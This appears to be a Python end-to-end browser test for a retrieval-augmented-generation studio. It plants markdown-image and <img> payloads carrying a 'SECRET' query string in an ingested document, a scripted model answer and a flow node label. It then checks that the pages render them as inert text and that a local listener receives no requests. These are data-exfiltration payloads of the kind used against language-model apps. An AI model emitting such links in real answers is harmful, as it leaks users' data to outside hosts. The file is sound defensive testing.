"""Untrusted text in a real Chromium: a document and a (scripted) model answer carry
`![x](http://127.0.0.1:<port>/leak.png?q=SECRET)`. The run page (answer, cited passage), the
replay page and the knowledge page's chunk list show it as text, and the small HTTP server this
test runs on that port receives no request at all. So does the editor's canvas, for a node label
that is an <img> tag.

The run is made in this process with flowkit.testing's FakeLLM and HashEmbedder (no model loads);
the studio then only reads it from the shared data directory.
"""
from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from flowkit.run_request import RunRequest

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[2]
ART = ROOT / "test-artifacts"


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        return


@pytest.fixture(scope="module")
def leak_server() -> Iterator[tuple[int, list[str]]]:
    from e2ekit import free_port
    port = free_port()
    hits: list[str] = []
    handler = type("Counter", (_Counter,), {"hits": hits})
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield port, hits
    srv.shutdown()
    srv.server_close()


@pytest.fixture(scope="module")
def studio(tmp_path_factory, leak_server):
    from e2ekit import CHROMIUM, StudioServer

    from flowkit import templates
    from flowkit.ingest import ingest
    from flowkit.testing import FakeLLM, HashEmbedder
    from service.workspace import Workspace
    if not Path(CHROMIUM).exists():
        pytest.fail("Debian chromium is not installed (make browser)")
    port, _ = leak_server
    link = f"![x](http://127.0.0.1:{port}/leak.png?q=SECRET)"
    home = tmp_path_factory.mktemp("e2e-inert")
    ws = Workspace(home)
    ws.resources.set_llm(FakeLLM(default=f"The keeper said {link} [1]"))
    ws.resources.set_embedder(HashEmbedder())
    doc = home / "leaky.txt"
    doc.write_text(f"The lighthouse keeper wrote {link} in the log book.\n", encoding="utf-8")
    ingest(ws.resources, "leaky", [doc])
    run_id = ws.run(templates.load_template("naive_rag"),
                    RunRequest("Who kept the lighthouse?", kb="leaky")).run_id
    # a flow whose node label is markup: the editor's canvas must draw it as text
    tag = f'<img src="http://127.0.0.1:{port}/leak.png?q=CANVAS">'
    spec = templates.load_template("naive_rag")
    nodes = [n.model_copy(update={"label": f"{tag} {link}"}) if n.id == "generate" else n
             for n in spec.nodes]
    ws.store.save_flow(spec.model_copy(update={"name": "leaky_flow", "nodes": nodes}), None)
    del ws
    ART.mkdir(exist_ok=True)
    with StudioServer(home, log=ART / "e2e-inert-streamlit.log", timeout_s=120) as url:
        yield url, run_id, link


@pytest.fixture(scope="module")
def page(studio, leak_server):
    from e2ekit import CHROMIUM, CHROMIUM_ARGS
    from playwright.sync_api import sync_playwright
    port, _ = leak_server
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        pg = browser.new_page(viewport={"width": 1400, "height": 1400})
        pg.set_default_timeout(120_000)
        pg.seen = []   # type: ignore[attr-defined]
        pg.on("request", lambda r: pg.seen.append(r.url) if f":{port}/" in r.url else None)
        yield pg
        browser.close()


def test_links_in_answers_and_passages_stay_text(studio, page, leak_server):
    from playwright.sync_api import expect
    url, run_id, link = studio
    port, hits = leak_server

    page.goto(f"{url}/run?run={run_id}")
    expect(page.get_by_role("heading", name="Answer")).to_be_visible(timeout=180_000)
    plain = page.get_by_test_id("stText")
    expect(plain.filter(has_text=f"The keeper said {link}")).to_be_visible()
    # the cited passage (and the same passage again under "Retrieved passages", also as text)
    expect(plain.filter(has_text=f"keeper wrote {link}").first).to_be_visible()
    page.wait_for_timeout(1500)
    page.screenshot(path=str(ART / "inert_run_page.png"), full_page=True)

    page.goto(f"{url}/replay?run={run_id}")
    expect(page.get_by_text(re.compile(r"Step 0 of \d"))).to_be_visible()
    expect(plain.filter(has_text=f"The keeper said {link}")).to_be_visible()
    page.wait_for_timeout(1500)
    page.screenshot(path=str(ART / "inert_replay_page.png"), full_page=True)

    assert page.locator(f"img[src*=':{port}/']").count() == 0

    # the editor's canvas (its own frame): the label is shown as the characters it is made of
    from e2ekit import canvas
    page.goto(f"{url}/editor?flow=leaky_flow")
    title = canvas(page).locator('.react-flow__node[data-id="generate"] strong')
    expect(title).to_contain_text('<img src="http://127.0.0.1:')
    expect(title).to_contain_text(link)
    assert canvas(page).locator("img").count() == 0
    page.wait_for_timeout(1500)
    page.screenshot(path=str(ART / "inert_editor_canvas.png"))

    assert page.seen == []   # type: ignore[attr-defined]
    assert hits == [], f"the browser fetched {hits}"
